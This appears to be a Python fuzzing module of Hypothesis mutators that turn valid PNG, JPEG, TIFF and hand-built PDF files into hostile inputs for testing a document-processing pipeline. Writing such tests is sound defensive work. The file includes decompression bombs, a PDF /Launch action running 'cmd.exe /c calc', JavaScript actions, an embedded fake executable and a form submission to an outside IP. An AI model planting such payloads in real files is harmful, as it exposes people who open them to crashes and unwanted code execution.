"""Structure-aware mutators: PNG chunks, JPEG markers, TIFF tags, PDF objects, edXML elements.
Each takes the bytes of a valid file and a Hypothesis `draw`, and returns hostile bytes."""
from __future__ import annotations

import io
import struct
import zlib

from hypothesis import strategies as st

BIG = st.sampled_from([0, 1, 2, 255, 5000, 20000, 65535, 1 << 20, (1 << 31) - 1, (1 << 32) - 1])


def byte_flips(data: bytes, draw, max_flips: int = 8) -> bytes:
    b = bytearray(data)
    for _ in range(draw(st.integers(1, max_flips))):
        if not b:
            break
        i = draw(st.integers(0, len(b) - 1))
        b[i] = draw(st.integers(0, 255))
    return bytes(b)


def truncate(data: bytes, draw) -> bytes:
    return data[:draw(st.integers(0, max(len(data) - 1, 0)))]


# ---------------------------------------------------------------- images

def base_image(draw, fmt: str) -> bytes:
    """A small real image (grey, RGB, palette, 1-bit or 16-bit) with a few lines of text-like strokes."""
    from PIL import Image, ImageDraw
    mode = draw(st.sampled_from(["L", "RGB", "P", "1", "I;16"] if fmt != "JPEG" else ["L", "RGB"]))
    w, h = draw(st.one_of(st.integers(1, 4), st.integers(8, 320))), draw(st.one_of(st.integers(1, 4), st.integers(8, 240)))
    im = Image.new("RGB", (w, h), "white")
    d = ImageDraw.Draw(im)
    for _ in range(draw(st.integers(0, 3))):       # ink: the page is not blank, so it goes to the OCR
        x, y = draw(st.integers(0, w)), draw(st.integers(0, h))
        d.rectangle((x, y, x + draw(st.integers(0, 40)), y + draw(st.integers(0, 6))), fill="black")
    for i in range(draw(st.integers(0, 6))):
        y = 10 + i * 18
        d.text((10, y), draw(st.sampled_from(["SỐ 12/UBND", "V/v công văn", "Kính gửi", "ỦY BAN"])), fill="black")
    im = im.convert(mode if mode != "I;16" else "I").convert(mode) if mode == "I;16" else im.convert(mode)
    buf = io.BytesIO()
    kw = {"dpi": (draw(st.sampled_from([0, 1, 72, 300, 100000])),) * 2} if fmt != "PNG" else {}
    if fmt == "TIFF":
        kw["compression"] = draw(st.sampled_from(["raw", "tiff_lzw", "tiff_deflate", "packbits"]))
    im.save(buf, fmt, **kw)
    return buf.getvalue()


def _chunks(png: bytes):
    pos, out = 8, []
    while pos + 8 <= len(png):
        n, kind = struct.unpack(">I4s", png[pos:pos + 8])
        out.append([kind, png[pos + 8:pos + 8 + n]])
        pos += 12 + n
    return out


def _chunk(kind: bytes, data: bytes, crc_ok: bool = True) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc if crc_ok else crc ^ 1)


def mutate_png(png: bytes, draw) -> bytes:
    chunks = _chunks(png)
    op = draw(st.sampled_from(["size", "size", "depth", "idat_cut", "idat_drop", "idat_dup", "bomb", "text_bomb",
                               "crc", "order", "flips"]))
    if op == "flips":
        return byte_flips(png, draw)
    for c in chunks:
        if c[0] == b"IHDR" and len(c[1]) == 13:
            w, h, depth, ctype, comp, filt, inter = struct.unpack(">IIBBBBB", c[1])
            if op == "size":        # the header promises a large picture over little data
                w, h = draw(BIG), draw(BIG)
            if op == "depth":
                depth, ctype = draw(st.sampled_from([0, 1, 2, 4, 8, 16, 3, 77])), draw(st.sampled_from([0, 2, 3, 4, 6, 5]))
                inter = draw(st.sampled_from([0, 1, 2]))
            c[1] = struct.pack(">IIBBBBB", w, h, depth, ctype, comp, filt, inter)
    idat = [c for c in chunks if c[0] == b"IDAT"]
    if op == "idat_cut" and idat:
        idat[0][1] = truncate(idat[0][1], draw)
    if op == "idat_drop":
        chunks = [c for c in chunks if c[0] != b"IDAT"]
    if op == "idat_dup" and idat:
        i = chunks.index(idat[0])
        chunks[i:i] = [[b"IDAT", idat[0][1]]] * draw(st.integers(1, 50))
    if op == "bomb":               # a small compressed stream that inflates to a huge picture
        side = draw(st.sampled_from([5000, 9000, 10000, 12000]))
        chunks = [[b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)],
                  [b"IDAT", zlib.compress(b"\x00" * (side + 1) * draw(st.integers(1, 64)), 9)], [b"IEND", b""]]
    if op == "text_bomb":
        chunks.insert(1, [b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * (8 << 20), 9)])
    if op == "order" and len(chunks) > 2:
        chunks = [chunks[0]] + list(reversed(chunks[1:]))
    return png[:8] + b"".join(_chunk(k, d, crc_ok=op != "crc") for k, d in chunks)


def mutate_jpeg(jpg: bytes, draw) -> bytes:
    b = bytearray(jpg)
    op = draw(st.sampled_from(["size", "size", "cut", "flips", "markers", "components"]))
    sof = next((i for i in range(2, len(b) - 9) if b[i] == 0xFF and b[i + 1] in (0xC0, 0xC1, 0xC2)), None)
    if op == "size" and sof is not None:
        struct.pack_into(">HH", b, sof + 5, draw(BIG) & 0xFFFF, draw(BIG) & 0xFFFF)
        return bytes(b[:draw(st.integers(sof + 10, len(b)))])
    if op == "components" and sof is not None:
        b[sof + 9] = draw(st.sampled_from([0, 2, 4, 5, 255]))
        return bytes(b)
    if op == "markers":
        i = draw(st.integers(2, len(b) - 2))
        return bytes(b[:i]) + bytes([0xFF, draw(st.sampled_from([0xD8, 0xD9, 0xDA, 0xC4, 0xDB, 0xE1]))]) + \
            struct.pack(">H", draw(st.integers(0, 65535))) + bytes(b[i:])
    if op == "cut":
        return truncate(bytes(b), draw)
    return byte_flips(bytes(b), draw)


def mutate_tiff(tif: bytes, draw) -> bytes:
    """Rewrite values of the first IFD's tags (width, length, strips, bits, compression)."""
    b = bytearray(tif)
    op = draw(st.sampled_from(["tag", "tag", "tag", "ifd_loop", "cut", "flips"]))
    if op == "cut":
        return truncate(tif, draw)
    if op == "flips":
        return byte_flips(tif, draw)
    end = "<" if tif[:2] == b"II" else ">"
    ifd = struct.unpack(end + "I", tif[4:8])[0]
    if ifd + 2 > len(b):
        return tif
    n = struct.unpack(end + "H", tif[ifd:ifd + 2])[0]
    if op == "ifd_loop":            # the next-IFD pointer points back at the first IFD
        at = ifd + 2 + 12 * n
        if at + 4 <= len(b):
            struct.pack_into(end + "I", b, at, ifd)
        return bytes(b)
    tags = {256: BIG, 257: BIG, 258: st.sampled_from([0, 1, 3, 8, 16, 32, 64]),
            259: st.sampled_from([1, 2, 5, 7, 8, 32773, 99]),
            262: st.integers(0, 10), 273: BIG, 277: st.sampled_from([0, 1, 3, 4, 200]), 278: BIG, 279: BIG}
    for k in range(n):
        at = ifd + 2 + 12 * k
        if at + 12 > len(b):
            break
        tag, typ, count = struct.unpack(end + "HHI", b[at:at + 8])
        if tag in tags and draw(st.booleans()):
            value = draw(tags[tag])
            if typ == 3:
                struct.pack_into(end + "H", b, at + 8, value & 0xFFFF)
            elif typ == 4:
                struct.pack_into(end + "I", b, at + 8, value & 0xFFFFFFFF)
    return bytes(b)


# ---------------------------------------------------------------- PDF (written by hand, object by object)

PDF_LINES = ["UY BAN NHAN DAN TINH SOC TRANG", "So: 1234/UBND-VP", "Soc Trang, ngay 20 thang 11 nam 2026",
             "V/v trien khai cong tac van thu", "Kinh gui: Cac so, ban, nganh tinh.", "KT. CHU TICH",
             "PHO CHU TICH", "Nguyen Van An"]


def _content(lines) -> bytes:
    ops = ["BT /F1 11 Tf 60 780 Td 14 TL"] + [f"({t}) '" for t in lines] + ["ET"]
    return "\n".join(ops).encode()


@st.composite
def pdf_document(draw):
    """(bytes, features): a PDF written by hand in the real object shape, with chosen active
    content and structural mutations."""
    feats = set(draw(st.lists(st.sampled_from(["js_open", "js_page", "launch", "exe", "embedded", "submit", "xfa",
                                                "plain_open", "big_image", "no_text"]), max_size=3, unique=True)))
    if "js_open" in feats:
        feats.discard("plain_open")           # one OpenAction only
    objs: dict[int, bytes] = {}
    catalog = {"Type": "/Catalog", "Pages": "2 0 R"}
    page = {"Type": "/Page", "Parent": "2 0 R", "MediaBox": "[0 0 595 842]",
            "Resources": "<< /Font << /F1 5 0 R >> >>", "Contents": "4 0 R"}
    pages = {"Type": "/Pages", "Kids": "[3 0 R]", "Count": "1"}
    content = _content([] if "no_text" in feats else PDF_LINES)
    objs[5] = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    nxt = 6
    if "js_open" in feats:
        catalog["OpenAction"] = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    if "plain_open" in feats and "js_open" not in feats:
        catalog["OpenAction"] = "[3 0 R /Fit]"
    if "js_page" in feats:
        objs[nxt] = b"<< /S /JavaScript /JS (this.print\\(\\)) >>"
        page["AA"] = f"<< /O {nxt} 0 R >>"
        nxt += 1
    if "launch" in feats:
        objs[nxt] = b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
        page["Annots"] = f"[<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A {nxt} 0 R >>]"
        nxt += 1
    if "submit" in feats:
        catalog["AA"] = "<< /WC << /S /SubmitForm /F << /FS /URL /F (http://198.51.100.1/x) >> >> >>"
    if "exe" in feats or "embedded" in feats:
        data = b"MZ\x90\x00" + b"\x00" * 60 if "exe" in feats else b"ghi chu kem theo"
        name = "setup.exe" if "exe" in feats else "ghi-chu.txt"
        objs[nxt] = b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"
        objs[nxt + 1] = f"<< /Type /Filespec /F ({name}) /UF ({name}) /EF << /F {nxt} 0 R >> >>".encode()
        catalog["Names"] = f"<< /EmbeddedFiles << /Names [({name}) {nxt + 1} 0 R] >> >>"
        nxt += 2
    if "xfa" in feats:
        objs[nxt] = b"<< /Length 27 >>\nstream\n<xdp:xdp><script/></xdp:xdp>\nendstream"
        catalog["AcroForm"] = f"<< /Fields [] /XFA {nxt} 0 R >>"
        nxt += 1
    if "big_image" in feats:        # an image XObject promising far more pixels than its data holds
        side = draw(st.sampled_from([20000, 60000, 1 << 20]))
        raw = zlib.compress(b"\x00" * 64)
        objs[nxt] = (f"<< /Type /XObject /Subtype /Image /Width {side} /Height {side} /ColorSpace /DeviceGray "
                     f"/BitsPerComponent 8 /Filter /FlateDecode /Length {len(raw)} >>\nstream\n").encode() + raw + \
            b"\nendstream"
        page["Resources"] = f"<< /Font << /F1 5 0 R >> /XObject << /Im1 {nxt} 0 R >> >>"
        content += b"\nq 500 0 0 700 40 60 cm /Im1 Do Q"
        nxt += 1
    op = draw(st.sampled_from(["none", "none", "none", "mediabox", "count", "kids_loop", "length", "deep",
                               "q_nesting", "xref", "truncate", "flips", "encrypt"]))
    if op == "mediabox":
        page["MediaBox"] = draw(st.sampled_from(["[0 0 1e9 1e9]", "[0 0 -5 -5]", "[0 0 0 0]", "[a b c d]",
                                                 "[0 0 14400 14400]", "[0 0 200000 3]"]))
    if op == "count":
        pages["Count"] = draw(st.sampled_from(["0", "-1", "100000", "99999999999"]))
    if op == "kids_loop":
        pages["Kids"] = "[3 0 R 2 0 R]"
        page["Parent"] = "3 0 R"
    if op == "deep":
        n = draw(st.sampled_from([100, 5000, 100000]))
        page["Deep"] = "[" * n + "]" * n
    if op == "q_nesting":
        content = b"q " * draw(st.sampled_from([1000, 100000])) + content
    if op == "encrypt":
        objs[nxt] = b"<< /Filter /Standard /V 1 /R 2 /O (xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx) " \
                    b"/U (xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx) /P -4 >>"
        encrypt = nxt
        nxt += 1
    length = len(content) if op != "length" else draw(st.sampled_from([0, 3, len(content) * 50]))
    objs[4] = b"<< /Length %d >>\nstream\n" % length + content + b"\nendstream"

    def d(x):
        return ("<< " + " ".join(f"/{k} {v}" for k, v in x.items()) + " >>").encode()
    objs[1], objs[2], objs[3] = d(catalog), d(pages), d(page)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objs):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    xref = len(out)
    size = max(objs) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for num in range(1, size):
        off = offsets.get(num, 0)
        if op == "xref":
            off = draw(st.integers(0, len(out)))
        out += b"%010d 00000 %s \n" % (off, b"n" if num in offsets else b"f")
    trailer = f"<< /Size {size} /Root 1 0 R" + (f" /Encrypt {encrypt} 0 R /ID [<00><00>]" if op == "encrypt" else "")
    out += (trailer + f" >>\nstartxref\n{xref}\n%%EOF\n").encode()
    data = bytes(out)
    if op == "truncate":
        data = truncate(data, draw)
    if op == "flips":
        data = byte_flips(data, draw)
    return data, feats
